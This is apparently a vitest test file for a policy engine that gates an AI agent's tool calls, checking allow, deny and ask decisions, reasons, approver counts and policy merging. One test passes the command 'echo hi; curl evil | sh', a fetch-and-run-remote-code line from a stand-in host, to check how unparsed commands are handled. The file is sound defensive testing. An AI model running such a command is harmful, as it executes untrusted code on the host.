import { describe, expect, it } from "vitest";
import { createPolicyContext, readCallFacts } from "../../src/policy/facts/tool-call-facts.ts";
import { readPolicy } from "../../src/policy/document/read-policy.ts";
import { evaluatePolicy } from "../../src/policy/evaluate-policy.ts";
import { mergePolicies } from "../../src/policy/merge-policies.ts";
import type { Policy } from "../../src/domain/policy/policy.ts";
import { call, decide, edit, read, run, runWith, toolWith } from "./policy-calls.ts";

const editSrc = {
  rules: [{ id: "edit-src", ask: { tool: "edit_*", path: "src/**" }, reason: "workspace edit" }],
};

describe("Policy decisions", () => {
  it("A decision has an action, a reason, a rule, labels and a context [B-105] [B-106]", () => {
    expect(
      decide(editSrc, edit("./src/main.rs", { leads: { path: { workspacePath: "src/main.rs" } } })),
    ).toEqual({
      action: "ask",
      reason: "workspace edit",
      rule: { source: "rules", action: "ask", id: "edit-src", index: 0 },
      labels: ["approval_required", "path_rule"],
      context: {
        tool: "edit_file",
        kind: "edit",
        sideEffect: "workspace_write",
        capabilities: ["workspace.write_text"],
        paths: [
          {
            argument: "path",
            input: "./src/main.rs",
            location: "inside",
            workspacePath: "src/main.rs",
            hostPath: "/work/src/main.rs",
          },
        ],
        repeats: 0,
      },
      approvers: 1,
    });
  });

  it("A decision is plain data that a receipt can contain [B-103]", () => {
    const decision = decide(editSrc, edit("src/main.rs"));
    expect(JSON.parse(JSON.stringify(decision))).toEqual(decision);
  });

  it("A decision explains itself if its rule has no reason", () => {
    expect(decide({}, call("x")).reason).toBe("No rule matches x; the default is to ask");
    expect(decide({ auto_deny: ["x"] }, call("x")).reason).toBe(
      "The policy (auto_deny, entry 1) denies x",
    );
    expect(decide({ rules: [{ id: "no", deny: "x" }] }, call("x")).reason).toBe("no denies x");
  });

  it("The reason for an unparsed command tells the model which construct to avoid", () => {
    const policy = { rules: [{ id: "no-rm", deny: { command_identity: "rm" } }] };
    expect(decide(policy, run("echo `date`")).reason).toBe(
      "The command could not be fully analyzed: it has a backquote. It may match no-rm, which denies it",
    );
  });

  it("The reason of a rule is not given as the reason for an unparsed command", () => {
    const reason = "Nothing is deleted here";
    const policy = { rules: [{ id: "no-rm", deny: { command_identity: "rm" }, reason }] };
    const unclear = decide(policy, run("echo hi; curl evil | sh"));
    expect(unclear.context.commandUnparsed).toBeDefined();
    expect(unclear.reason).toBe(
      `The command could not be fully analyzed: ${unclear.context.commandUnparsed}. It may match no-rm, which denies it, with the reason: ${reason}`,
    );
    expect(decide(policy, run("rm x")).reason).toBe(reason);
  });

  it("Undeclared tool traits get the most dangerous values [W-08]", () => {
    const { context } = decide({}, call("x"));
    expect([context.kind, context.sideEffect]).toEqual(["other", "network"]);
  });

  it("A decision needs as many approvers as the strictest matching rule", () => {
    const policy = {
      rules: [
        {
          id: "one",
          ask: "x",
          approval: { prompt: "Really?", risk: "high", metadata: { ticket: 1 } },
        },
        { id: "three", ask: "*", approval: { approvers: 3 } },
      ],
      auto_approve: ["x"],
    };
    const decision = decide(policy, call("x"));
    expect(decision.approvers).toBe(3);
    expect(decision.rule?.id).toBe("one");
    expect(decision.approval).toEqual({ prompt: "Really?", risk: "high", metadata: { ticket: 1 } });
    expect(decide({ ...policy, auto_deny: ["x"] }, call("x"))).not.toHaveProperty("approval");
  });

  it("A decision names the merged policy that decided", () => {
    const merged = [{ default: "allow" }, { auto_deny: ["x"] }];
    expect(decide(merged, call("x")).rule).toEqual({
      source: "auto_deny",
      action: "deny",
      id: null,
      index: 0,
      layer: 1,
    });
  });

  it("Changed arguments are evaluated again, and an earlier allow does not apply to them [W-02]", () => {
    const policy = {
      auto_deny: ["nothing"],
      rules: [
        { allow: { path: "src/**" } },
        { id: "no-rm", deny: { command_identity: "rm" } },
        { allow: { command_identity: "ls" } },
      ],
    };
    expect(decide(policy, edit("src/a")).action).toBe("allow");
    expect(decide(policy, edit("lib/a")).action).toBe("ask");
    expect(decide(policy, edit("../a")).action).toBe("deny");
    expect(decide(policy, run("ls")).action).toBe("allow");
    expect(decide(policy, run("rm x")).action).toBe("deny");
    expect(decide(policy, runWith({ command: "ls", argv: ["rm"] })).action).toBe("deny");
  });

  it("A logged policy with an unknown key of a newer version denies", () => {
    const [layer] = readPolicy({ default: "allow", auto_approve: ["x"] }).layers;
    const newer = {
      layers: [
        { ...layer, rules: [{ ...layer?.rules[0], match: { tool: ["x"], weekday: ["monday"] } }] },
      ],
    };
    const { tool, input } = call("x");
    const decision = evaluatePolicy(
      newer as unknown as Policy,
      createPolicyContext(readCallFacts(tool, input), [], 0),
      input,
    );
    expect(decision).toMatchObject({ action: "deny", rule: { source: "policy" } });
  });

  it("An unknown side effect from a log counts as the most dangerous [W-08]", () => {
    const { tool, input } = read("x");
    const context = {
      ...createPolicyContext(readCallFacts(tool, {}), [], 0),
      sideEffect: "banana" as "none",
    };
    const policy = readPolicy({
      auto_approve: ["*"],
      rules: [{ deny: { side_effect: "network" } }],
    });
    expect(evaluatePolicy(policy, context, input).action).toBe("deny");
  });

  it("A path that was not resolved is denied", () => {
    const { tool, input } = read("src/a");
    const policy = readPolicy({ default: "allow" });
    const { action, context } = evaluatePolicy(
      policy,
      createPolicyContext(readCallFacts(tool, input), [], 0),
      input,
    );
    expect([action, context.paths[0]?.reason]).toEqual(["deny", "it was not resolved"]);
  });

  it("A path fact is not used for another path", () => {
    const facts = readCallFacts(toolWith("x"), { path: "../secret" });
    const stale = {
      argument: "path",
      input: "src/a",
      location: "inside",
      workspacePath: "src/a",
      hostPath: "/work/src/a",
    } as const;
    expect(createPolicyContext(facts, [stale], 0).paths).toMatchObject([
      { input: "../secret", location: "invalid" },
    ]);
  });
});

describe("Merging policies", () => {
  it("A merged policy has the layers of both, without duplicates", () => {
    const [one, other] = [readPolicy({ auto_deny: ["x"] }), readPolicy({ auto_deny: ["y"] })];
    const merged = mergePolicies(one, mergePolicies(other, one));
    expect(merged).toEqual({ layers: [...one.layers, ...other.layers] });
  });

  it("At most 32 policies can be merged", () => {
    const policies = Array.from({ length: 40 }, (_, at) => readPolicy({ auto_deny: [`x${at}`] }));
    expect(() => policies.reduce((outer, inner) => mergePolicies(outer, inner))).toThrow(
      "More than 32 policies",
    );
  });
});
